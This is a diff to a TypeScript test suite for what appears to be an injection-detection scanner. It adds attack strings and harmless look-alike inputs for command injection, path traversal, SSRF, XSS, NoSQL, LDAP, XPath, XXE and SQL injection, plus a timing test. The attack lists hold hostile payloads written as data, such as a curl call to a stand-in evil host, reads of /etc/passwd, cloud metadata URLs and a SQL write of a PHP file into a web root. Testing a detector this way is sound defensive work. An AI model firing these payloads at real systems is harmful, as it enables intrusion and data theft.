@@ -12,23 +12,27 @@ const familyOf = (value: string, location: Location = 'body', paranoia = 1) => s
 
 const CASES: Record<Exclude<Family, 'sqli'>, { attacks: string[]; benign: string[]; location?: Location }> = {
   nosql: {
-    attacks: ["', $where: '1 == 1'", '{"$gt": ""}', 'user[$ne]=1', 'db.users.find({})', "' && this.password.match(/.*/)//", "';sleep(5000);'", 'x;it=new Date();do{pt=new Date();}while(pt-it<5000);'],
-    benign: ['Price: $5 or less', 'Save $20 now!', 'Sleep (8 hours) is important', 'db. stands for decibel', 'it costs $ne... never mind'],
+    attacks: ["', $where: '1 == 1'", '{"$gt": ""}', 'user[$ne]=1', 'db.users.find({})', "' && this.password.match(/.*/)//", "';sleep(5000);'", 'x;it=new Date();do{pt=new Date();}while(pt-it<5000);', "'; return true; var x='", '"; while(true){}; //'],
+    benign: ["He said 'no'; return the item", "It's fine; return policy is 30 days", 'Price: $5 or less', 'Save $20 now!', 'Sleep (8 hours) is important', 'db. stands for decibel', 'it costs $ne... never mind'],
   },
   cmd: {
-    attacks: ['; cat /etc/hosts', "; c'a't /et\"c\"/hos'ts", '| whoami', '&& ls -la', '`id`', '$(curl http://evil.example)', ';getent${IFS}hosts x', '() { :; }; /bin/bash -c id', '<!--#exec cmd="ls" -->', '%3Bwget%20http%3A%2F%2Fx%2Fa.sh'],
-    benign: ['We have two pets; cat and dog', 'Tom & Jerry', 'R&D; sales | marketing', 'Sleep well; see you', 'The operating system(s) supported', 'Set of 6; one chipped'],
+    attacks: ['; cat /etc/hosts', "; c'a't /et\"c\"/hos'ts", '| whoami', '&& ls -la', '`id`', '$(curl http://evil.example)', ';getent${IFS}hosts x', '() { :; }; /bin/bash -c id', '<!--#exec cmd="ls" -->', '%3Bwget%20http%3A%2F%2Fx%2Fa.sh',
+      ';c${x}at /e${x}tc/hosts', ';who$()ami', 'a;w``hoami', ';/???/??t /???/h??ts', '|/usr/bin/wh?ami', ';{ls,-la}', '; sleep 5 ;', '| timeout 10', '& dir c:\\'],
+    benign: ['Lunch at 12; sleep 8 hours', 'what; /???', 'Dear ${customer}; cat and dog', 'We have two pets; cat and dog', 'Tom & Jerry', 'R&D; sales | marketing', 'Sleep well; see you', 'The operating system(s) supported', 'Set of 6; one chipped'],
   },
   traversal: {
-    attacks: ['../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fboot.ini', '%252e%252e%252f.htaccess', '%c0%ae%c0%ae/%c0%ae%c0%ae/x', '/proc/self/environ', '\\\\host\\c$\\users'],
-    benign: ['Wait... what?', 'See docs/setup.md', 'Price 1.../2 off', 'etc. and so on', 'C:\\Users\\Public\\Documents'],
+    attacks: ['../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fboot.ini', '%252e%252e%252f.htaccess', '%c0%ae%c0%ae/%c0%ae%c0%ae/x', '/proc/self/environ', '\\\\host\\c$\\users',
+      '..\u2215..\u2215secret', '..%u2215..%u2215secret', '..\u2216..\u2216secret', '..././..././config.php', '\uff0e\uff0e\uff05\uff12\uff46\uff0e\uff0e\uff05\uff12\uff46secret'],
+    benign: ['1\u20442 cup of sugar', 'Wait.../what', 'Wait... what?', 'See docs/setup.md', 'Price 1.../2 off', 'etc. and so on', 'C:\\Users\\Public\\Documents'],
   },
   ssrf: {
-    attacks: ['http://127.0.0.1/', 'http://2130706433/', 'http://0177.0.0.1/', 'http://0x7f000001/', 'http://127.1/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://[::]/', 'http://169.254.169.254/latest', 'http://metadata.google.internal/', 'http://100.100.100.200/', 'http://[fd00:ec2::254]/', 'gopher://x:70/_', 'dict://x:11211/', 'file:///etc/hostname', 'jar:http://x!/', 'http://10.0.0.5:8080/admin', 'http://localtest.me/', 'http://evil@192.168.1.1/'],
-    benign: ['https://example.com/docs', 'Visit http://www.example.org/about', 'file: attached below', 'Call 10.0 or later', 'ftp://ftp.example.com/pub'],
+    attacks: ['http://127.0.0.1/', 'http://2130706433/', 'http://0177.0.0.1/', 'http://0x7f000001/', 'http://127.1/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://[::]/', 'http://169.254.169.254/latest', 'http://metadata.google.internal/', 'http://100.100.100.200/', 'http://[fd00:ec2::254]/', 'gopher://x:70/_', 'dict://x:11211/', 'file:///etc/hostname', 'jar:http://x!/', 'http://10.0.0.5:8080/admin', 'http://localtest.me/', 'http://evil@192.168.1.1/',
+      'http://[::127.0.0.1]/', 'http://[::ffff:0:7f00:1]/', 'http://[2002:7f00:1::]/', 'http://[fe80::1%25eth0]/', 'http://evil.example#@127.0.0.1/',
+      'http://evil.example?@10.0.0.1/', 'http:127.0.0.1/', 'http:/127.0.0.1/', 'http://kubernetes.default.svc/', 'http://redis.prod.svc.cluster.local:6379/'],
+    benign: ['https://example.com/faq#@support', 'https://api.example.com:8443/v1?q=a@b', 'See http:this is not a URL', 'https://example.com/docs', 'Visit http://www.example.org/about', 'file: attached below', 'Call 10.0 or later', 'ftp://ftp.example.com/pub'],
   },
   xss: {
-    attacks: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '"onmouseover="alert(1)', 'javascript:alert(1)', 'java\tscript:alert(1)', 'jav&#x09;ascript:alert(1)', '&lt;iframe src=x&gt;', '%3Cscript%3E', '<a href="javascript&colon;alert(1)">x</a>', 'data:text/html,<b>x</b>', "'-alert(1)//", '(confirm)(1)', '<div style="width:expression(alert(1))">', '\\u003cscript\\u003e', '<<scr\u0000ipt>alert(1)</script>'],
+    attacks: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '"onmouseover="alert(1)', 'javascript:alert(1)', 'java\tscript:alert(1)', 'jav&#x09;ascript:alert(1)', '&lt;iframe src=x&gt;', '%3Cscript%3E', '<a href="javascript&colon;alert(1)">x</a>', 'data:text/html,<b>x</b>', "'-alert(1)//", '(confirm)(1)', '<div style="width:expression(alert(1))">', '\\u003cscript\\u003e', '<<scr\u0000ipt>alert(1)</script>', '\uff05\uff13\uff23script\uff05\uff13\uff25alert(1)'],
     benign: ['Use <b>bold</b> text', 'I <3 this', 'x < y and y > z', 'Set an alert (daily)', 'The ongoing project', 'Java Script tutorial', 'Press <Enter>', 'alert(s) were raised'],
   },
   ssti: {
@@ -36,11 +40,11 @@ const CASES: Record<Exclude<Family, 'sqli'>, { attacks: string[]; benign: string
     benign: ['Hello {{first_name}}!', 'Dear ${customer},', 'Hi {{ name }}', 'Template: #{name}', '{% if user %}hi{% endif %}'],
   },
   ldap: {
-    attacks: ['*)(uid=*))(|(uid=*', '*(|(objectclass=*))', '(&(uid=admin)(!(&(1=0)(userPassword=q))))', 'userPassword:2.5.13.18:=123', 'admin)(cn=*'],
+    attacks: ['*)(uid=*))(|(uid=*', '*(|(objectclass=*))', '(&(uid=admin)(!(&(1=0)(userPassword=q))))', 'userPassword:2.5.13.18:=123', 'admin)(cn=*', 'admin)(&)', 'x)(|)'],
     benign: ['(see above)(and below)', 'f(x)(y)', 'Rating: 5*', 'key := value'],
   },
   xpath: {
-    attacks: ["' and count(/*)=1 and '1'='1", "']|//*|//*['", 'name(/*[1])', '/child::node()'],
+    attacks: ["' and count(/*)=1 and '1'='1", "']|//*|//*['", 'name(/*[1])', '/child::node()', "']\t|\t//user/*[contains(*,'", "']\n|//*"],
     benign: ['count (them) all', 'a // comment', 'http://example.com/a/b'],
   },
   crlf: {
@@ -53,7 +57,7 @@ const CASES: Record<Exclude<Family, 'sqli'>, { attacks: string[]; benign: string
     benign: ['${price}', 'It costs $5 {approx}', 'Use ${HOME} in bash'],
   },
   xxe: {
-    attacks: ['<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x/>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE', '<xi:include href="http://evil"/>'],
+    attacks: ['<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x/>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE', '<xi:include href="http://evil"/>', '<!DOCTYPE x\nSYSTEM "http://evil/x.dtd">', '<!DOCTYPE x\tPUBLIC "-//x" "http://evil/x.dtd">'],
     benign: ['<!DOCTYPE html> is the HTML5 doctype', '<?xml version="1.0"?> prolog'],
   },
 };
@@ -67,6 +71,25 @@ describe('detector families', () => {
       for (const text of cases.benign) assert.equal(familyOf(text, 'body'), undefined, `${family} false positive: ${JSON.stringify(text)}`);
     });
   }
+
+  test('sqli: MySQL dash comments, word arithmetic, INTO OUTFILE and \\N are read as MySQL does', () => {
+    for (const attack of ['1 --1 UNION SELECT password FROM users', '1 --1 union select 1,2,3', '1 div 0 union select 1', '5 mod 2 union select null', "' into outfile '/var/www/x.php'--", '1 into dumpfile \'/tmp/x\'', '\\N union select 1,2']) {
+      assert.equal(familyOf(attack, 'query'), 'sqli', `sqli missed: ${JSON.stringify(attack)}`);
+    }
+    for (const text of ['npm install --save-dev typescript', "well--that's odd", 'Pages 10--12 cover it', 'Save the report into outfile.txt']) assert.equal(familyOf(text, 'query'), undefined, `false positive: ${JSON.stringify(text)}`);
+  });
+
+  test('adversarial values cost linear time (no quadratic rescans)', () => {
+    const size = 200_000;
+    for (const pattern of ['|', '&', '||', '{%', '{{', 'http://', 'http://[', 'http://x@', 'http://a%zz', "'; return ", '$(', '/???/', '<a x="1" ']) {
+      const value = pattern.repeat(Math.ceil(size / pattern.length)).slice(0, size);
+      const started = performance.now();
+      scanValue(scanner(1), value, 'body', { remaining: 1e9 });
+      const elapsed = performance.now() - started;
+      // Linear scans take tens of milliseconds here; the quadratic ones took seconds to minutes.
+      assert.ok(elapsed < 1500, `${JSON.stringify(pattern)} × ${size}: ${elapsed.toFixed(0)} ms`);
+    }
+  });
 
   test('a line break is an injection in header-bound values, text in bodies', () => {
     assert.equal(familyOf('line one\nline two', 'header'), 'crlf');
